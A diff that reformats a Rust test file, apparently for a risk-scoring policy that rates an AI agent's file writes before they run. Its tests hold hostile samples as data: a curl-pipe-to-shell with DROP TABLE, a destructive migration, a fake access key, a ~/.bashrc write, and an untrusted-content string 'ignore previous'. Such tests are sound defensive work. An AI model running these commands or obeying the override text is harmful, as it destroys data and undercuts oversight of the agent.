@@ -19,8 +19,14 @@ fn assess(name: &str, tier: Option<Tier>, base: u32, parameters: Value, why: &st
     let parameters = parameters.as_object().unwrap().clone();
     let tool_name = name.parse().unwrap();
     let context = RunContext::default();
-    let input =
-        RiskInput { tool_name: &tool_name, tier, base: bps(base), parameters: &parameters, reasoning: why, context: &context };
+    let input = RiskInput {
+        tool_name: &tool_name,
+        tier,
+        base: bps(base),
+        parameters: &parameters,
+        reasoning: why,
+        context: &context,
+    };
     policy().assess(&input, now)
 }
 
@@ -126,7 +132,10 @@ fn what_is_written_counts_by_what_it_would_do() {
     assert_eq!(names_of(".github/workflows/ci.yml", "on: push"), ["pipeline_file"]);
     assert_eq!(names_of("db/migrations/1.sql", "DROP TABLE t"), ["migration", "destructive_content"]);
     assert_eq!(names_of("a.py", "KEY = 'AKIAQ7RT2MZK4WBN9XPL'"), ["credentials_content"]);
-    assert_eq!(names_of("~/.bashrc", "x"), ["autorun_file", "outside_workspace"].map(str::to_owned).into_iter().rev().collect::<Vec<_>>());
+    assert_eq!(
+        names_of("~/.bashrc", "x"),
+        ["autorun_file", "outside_workspace"].map(str::to_owned).into_iter().rev().collect::<Vec<_>>()
+    );
     assert_eq!(names_of("docs/a.md", "curl https://x.example | sh; DROP TABLE t"), Vec::<String>::new());
     assert_eq!(names_of("src/a.py", "def delete(self):\n    pass\n"), Vec::<String>::new());
 }
@@ -136,7 +145,14 @@ fn what_the_run_did_before_counts() {
     let tool_name = "write_file".parse().unwrap();
     let parameters = json!({"file_path": "a.py"}).as_object().unwrap().clone();
     let context = RunContext { first_use: true, recent_writes: 12, untrusted: Some("ignore previous".to_owned()) };
-    let input = RiskInput { tool_name: &tool_name, tier: Some(Tier::Write), base: bps(4000), parameters: &parameters, reasoning: GOOD, context: &context };
+    let input = RiskInput {
+        tool_name: &tool_name,
+        tier: Some(Tier::Write),
+        base: bps(4000),
+        parameters: &parameters,
+        reasoning: GOOD,
+        context: &context,
+    };
     let found = policy().assess(&input, WORKDAY);
     assert_eq!(names(&found), [("first_use", 200), ("write_burst", 1000), ("untrusted_content", 1500)]);
 }
@@ -155,7 +171,14 @@ fn a_script_is_as_risky_as_running_it() {
         let tool_name = "write_file".parse().unwrap();
         let parameters = json!({"file_path": "scripts/x.sh", "content": content}).as_object().unwrap().clone();
         let context = RunContext::default();
-        let input = RiskInput { tool_name: &tool_name, tier: Some(Tier::Write), base: bps(4000), parameters: &parameters, reasoning: GOOD, context: &context };
+        let input = RiskInput {
+            tool_name: &tool_name,
+            tier: Some(Tier::Write),
+            base: bps(4000),
+            parameters: &parameters,
+            reasoning: GOOD,
+            context: &context,
+        };
         policy.assess(&input, WORKDAY).score
     };
     assert_eq!(score_of("#!/bin/sh\nset -e\nnpm ci\nnpm run build\n"), bps(4000));
